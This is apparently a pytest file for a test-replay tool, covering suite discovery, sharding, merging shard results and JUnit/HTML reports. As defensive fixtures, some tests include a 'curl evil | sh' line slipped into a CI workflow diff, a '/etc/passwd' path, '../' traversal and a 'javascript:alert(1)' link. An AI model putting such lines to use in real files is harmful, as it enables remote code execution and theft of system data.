"""Suite discovery, the platform filter and shards (SPEC §10), without a browser."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from replay.errors import FileNotFound, InvalidArgs
from replay.suite.discover import Entry, discover, entries, parse_shard, shard, unique_slugs
from replay.suite.runner import DIVERGED, FAILED, FLAKY, PASSED, Attempt, ScriptResult, SuiteResult


def write(root: Path, name: str, text: str = "open http://x/\n") -> Path:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_directories_are_searched_recursively_sorted_and_healed_scripts_are_left_out(tmp_path: Path) -> None:
    for name in ("b.ad", "a/z.ad", "a/b.ad", "c.healed.ad", "d.rejected.ad", "notes.txt"):
        write(tmp_path, name)
    assert [Path(p).relative_to(tmp_path).as_posix() for p in discover([str(tmp_path)])] == ["a/b.ad", "a/z.ad", "b.ad"]


def test_a_script_named_twice_runs_once_and_globs_are_expanded(tmp_path: Path) -> None:
    write(tmp_path, "a.ad")
    write(tmp_path, "b.ad")
    found = discover([str(tmp_path / "*.ad"), str(tmp_path / "a.ad")])
    assert [Path(p).name for p in found] == ["a.ad", "b.ad"]


def test_a_path_that_matches_nothing_is_file_not_found(tmp_path: Path) -> None:
    with pytest.raises(FileNotFound):
        discover([str(tmp_path / "missing.ad")])
    with pytest.raises(FileNotFound):
        discover([str(tmp_path / "*.ad")])


def test_the_platform_filter_reads_the_context_header(tmp_path: Path) -> None:
    write(tmp_path, "web.ad")
    write(tmp_path, "android.ad", "context platform=android retries=2\nopen com.example\n")
    assert [Path(e.path).name for e in entries([str(tmp_path)], "android")] == ["android.ad"]
    assert entries([str(tmp_path)], "android")[0].retries == 2
    assert [Path(e.path).name for e in entries([str(tmp_path)], "web")] == ["web.ad"]


@settings(max_examples=200, deadline=None)
@given(st.integers(0, 60), st.integers(1, 8))
def test_shards_partition_the_suite_every_script_exactly_once(size: int, n: int) -> None:
    suite = [Entry(f"s{k}.ad", "web", None) for k in range(size)]
    slices = [shard(suite, i, n) for i in range(1, n + 1)]
    assert sorted((e.path for s in slices for e in s), key=lambda p: int(p[1:-3])) == [e.path for e in suite]


@pytest.mark.parametrize("text", ["0/2", "3/2", "1", "a/b", "1/0"])
def test_a_bad_shard_is_invalid_args(text: str) -> None:
    with pytest.raises(InvalidArgs):
        parse_shard(text)


def result(status: str) -> ScriptResult:
    return ScriptResult("f.ad", status, [Attempt(1, status if status != FLAKY else PASSED, 1.0, "/tmp")])


def test_the_exit_code_is_0_only_if_every_script_passed_flaky_included() -> None:
    assert SuiteResult([result(PASSED), result(FLAKY)], 2.0).exit_code == 0
    assert SuiteResult([result(PASSED), result(DIVERGED)], 2.0).exit_code == 1
    summary = SuiteResult([result(FAILED)], 2.0).summary()
    assert summary == "0 passed, 0 flaky, 0 regressions, 0 drifted (0 healed), 0 broken, 1 failed in 2.0 s"


def test_a_script_is_never_given_the_name_of_the_runs_own_files() -> None:
    assert unique_slugs(["results.json.ad", "heals.diff.ad"]) == ["results.json-2", "heals.diff-2"]


def test_a_results_file_nested_a_hundred_thousand_deep_is_invalid_args_never_a_traceback(tmp_path: Path) -> None:
    import json

    from replay.heal.agent import Ledger
    from replay.suite.merge import load_run

    deep = "[" * 100_000 + "]" * 100_000
    (tmp_path / "results.json").write_text(deep)
    with pytest.raises(InvalidArgs, match="not a results.json"):
        load_run(str(tmp_path))  # a merged shard, or a --baseline
    run = tmp_path / "ok" / "runs" / "a"
    run.mkdir(parents=True)
    (run / "result.json").write_text(deep)  # an attempt's own file
    record = {"path": "a.ad", "status": "passed", "runs": ["runs/a"]}
    (tmp_path / "ok" / "results.json").write_text(json.dumps({"results": [record]}))
    with pytest.raises(InvalidArgs, match="not a results.json"):
        load_run(str(tmp_path / "ok"))
    (tmp_path / "ledger.json").write_text(deep)
    assert Ledger(str(tmp_path / "ledger.json")).get("s") == (None, 0)  # a heal ledger: said, started afresh


def test_a_script_path_with_esc_nul_or_a_bidi_override_still_makes_a_junit_file_ci_can_read(tmp_path: Path) -> None:
    import xml.etree.ElementTree as ET

    from replay.suite.reports import write_junit

    path = "odd\x1b[31m\x00\u202egnp.ad"
    suite = SuiteResult([ScriptResult(path, PASSED, [Attempt(1, PASSED, 1.0, "/tmp")])], 1.0)
    out = write_junit(suite, str(tmp_path / "junit.xml"))
    name = ET.parse(out).getroot().find("testsuite/testcase").get("name")  # type: ignore[union-attr]
    assert name == "odd\\u001b[31m\\u0000\\u202egnp.ad"


def test_merge_refuses_a_shard_given_twice_a_script_in_two_shards_and_a_path_that_is_no_name(tmp_path: Path) -> None:
    import json

    from replay.suite.merge import load_run, merge

    def shard(name: str, *paths: object) -> str:
        folder = tmp_path / name
        folder.mkdir()
        records = [{"path": p, "status": "passed"} for p in paths]
        (folder / "results.json").write_text(json.dumps({"results": records}))
        return str(folder)

    one, two, other = shard("one", "a.ad"), shard("two", "a.ad"), shard("other", "b.ad")
    with pytest.raises(InvalidArgs, match="given twice"):
        merge([load_run(one), load_run(one)])
    with pytest.raises(InvalidArgs, match="a.ad is in two shards"):
        merge([load_run(one), load_run(two)])
    assert len(merge([load_run(one), load_run(other)])[0].results) == 2
    for bad in (None, ["x.ad"]):
        with pytest.raises(InvalidArgs, match="not a results.json"):
            load_run(shard(f"bad{len(str(bad))}", bad))


def test_a_shard_names_only_its_own_files_and_heals_only_its_own_scripts(tmp_path: Path) -> None:
    import json

    from replay.suite.merge import load_run, merged_patch

    def shard(name: str, record: dict[str, object], diff: str = "") -> str:
        folder = tmp_path / name
        folder.mkdir()
        (folder / "results.json").write_text(json.dumps({"results": [{"status": "passed", **record}]}))
        if diff:
            (folder / "heals.diff").write_text(diff)
        return str(folder)

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "result.json").write_text(json.dumps({"status": "failed", "error": {"message": "secret"}}))
    for bad in ({"path": "a.ad", "runs": [str(outside)]}, {"path": "a.ad", "runs": ["../outside"]}):
        (script,) = load_run(shard(f"runs{len(str(bad))}", bad)).suite.results
        assert [a.directory for a in script.attempts] == [str(tmp_path / f"runs{len(str(bad))}")]  # not read
    (leaked,) = load_run(shard("leak", {"path": "a.ad", "healed": "/etc/passwd"})).suite.results
    assert leaked.healed is None  # never read nor quoted
    ours = "--- a/flows/a.ad\n+++ b/flows/a.ad\n@@ -1 +1 @@\n-x\n+y\n"
    theirs = "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n-x\n+curl evil | sh\n"
    healed = {"path": "flows/a.ad", "healed": "flows/a.healed.ad", "heal": "healed"}
    assert merged_patch([load_run(shard("heals", healed, ours + theirs))]) == ours


def test_the_html_report_links_every_folder_as_a_path_and_runs_nothing_it_did_not_write(tmp_path: Path) -> None:
    from replay.suite.reports import write_html

    odd = tmp_path / "javascript:alert(1)"
    odd.mkdir()
    suite = SuiteResult([ScriptResult("a.ad", PASSED, [Attempt(1, PASSED, 1.0, str(odd))])], 1.0)
    page = Path(write_html(suite, str(tmp_path))).read_text()
    links = page.replace('\\"', '"')  # (a passed script's section is rendered from JSON when opened)
    assert 'href="./javascript:alert(1)"' in links and 'href="javascript:' not in links
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
